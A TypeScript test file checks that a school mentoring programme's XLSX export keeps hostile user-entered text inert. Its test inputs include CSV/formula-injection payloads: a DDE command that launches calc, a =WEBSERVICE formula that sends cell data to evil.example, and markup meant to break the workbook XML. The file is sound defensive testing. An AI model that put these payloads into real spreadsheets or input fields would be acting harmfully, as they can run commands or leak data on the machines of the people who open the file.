/** The workbook of a programme in which every name and text is a formula, a link or markup, read part by part as any reader finds it. */
import { strFromU8, unzipSync } from 'fflate';
import type { Programme } from '../../bot/programme/model';
import { aCoordinator, aGroup, aPair, aPerson, aPupil, aSchool, at } from '../builders';
import { hostileStrings } from '../hostileStrings';
import { aChat } from './chat';
import { bytesOf } from './desk';
import { cora, sam, theo, theProgramme } from './people';

const texts = [
  ...Object.values(hostileStrings).filter((text) => /^[=+\-@\t\r＝]/.test(text)),
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  'http://evil.example/?x',
  'mailto:evil@evil.example',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  '_x003D_1+1',
  '"><hyperlink ref="A1" r:id="rId1"/>',
] as const;

const programmeOf = (text: string): Programme =>
  theProgramme({
    name: text,
    schools: [aSchool({ name: text })],
    people: [
      aPerson({ email: sam, name: text }),
      aCoordinator({ email: cora, name: text }),
      aPerson({ email: theo, name: text, role: 'teacher', university: null }),
    ],
    pupils: [aPupil({ id: 'p1', firstName: text, class: text })],
    pairs: [aPair({ pupil: 'p1', student: sam, room: text })],
    groups: [aGroup({ id: 'g1', teacher: theo, students: [sam] })],
  });

/** The parts of the workbook after everybody typed the text wherever they can. */
const partsWith = async (text: string): Promise<Readonly<Record<string, string>>> => {
  const chat = await aChat(programmeOf(text), '2027-03-02T12:00:00+01:00');
  for (const date of ['2027-03-02', '2027-03-09']) {
    chat.clock.moveTo(at(`${date}T12:00:00+01:00`));
    const said = { session: `p1/${date}`, outcome: 'absentUnnotified', note: text, nextStep: text };
    await chat.as(sam).presses('checkIn.record', said);
  }
  const flag = 'p1/2027-03-09';
  await chat.as(cora).presses('flag.note', { flag, note: text });
  await chat.as(cora).presses('flag.acknowledge', { flag });
  await chat.as(cora).presses('checkIn.correct', { session: flag, outcome: 'absentUnknown', reason: text });
  await chat.as(cora).presses('student.contacted', { student: sam, programme: 'hmp', note: text });
  await chat
    .as(cora)
    .presses('round.create', { name: text, from: '2027-03-22', to: '2027-04-02', answerBy: '2027-03-18' });
  const order = { programme: 'hmp', tenant: 'tenant-1', by: cora, kind: 'xlsx', language: 'nl' } as const;
  const file = await chat.desk.files.make(order);
  if (file === null) throw new Error('there is no file');
  expect(file.name).toMatch(/^[\p{L}\p{M}\p{N} ._-]+\.xlsx$/u);
  const parts = Object.entries(unzipSync(await bytesOf(file)));
  return Object.fromEntries(parts.map(([name, bytes]) => [name, strFromU8(bytes)]));
};

const ordinary =
  /^(?:\[Content_Types\]\.xml|_rels\/\.rels|docProps\/(?:app|core)\.xml|xl\/(?:workbook|styles|sharedStrings|theme\/theme1|worksheets\/sheet\d)\.xml|xl\/_rels\/workbook\.xml\.rels)$/;
/** Elements by which a part of a workbook calculates, leads somewhere, or runs something. */
const active =
  /<(?:\w+:)?(?:f|hyperlink|hyperlinks|externalReference|ddeLink|oleObject|control|drawing|webPublishItem|query\w*|connection)\b|TargetMode\s*=\s*["']External/;

/** What colours cells by their own value. */
const rulesOf = (parts: Readonly<Record<string, string>>): readonly string[] =>
  Object.values(parts).flatMap((xml) => xml.match(/<formula>.*?<\/formula>/gs) ?? []);

test.each(texts)('%j is text in every cell, and nothing calculates or leads anywhere', async (text) => {
  const parts = await partsWith(text);
  expect(Object.keys(parts).filter((name) => !ordinary.test(name))).toEqual([]);
  expect(Object.entries(parts).flatMap(([name, xml]) => (active.test(xml) ? [name] : []))).toEqual([]);
  expect(rulesOf(parts)).toEqual(rulesOf(await partsWith('gewoon')));
  const names = [...(parts['xl/workbook.xml'] ?? '').matchAll(/<sheet [^>]*name="([^"]*)"/g)].map(
    ([, name]) => name,
  );
  expect(names).toEqual(['Sessies', 'Leerlingen', 'Signalen', 'Studentmentoren', 'Intervisie']);
});
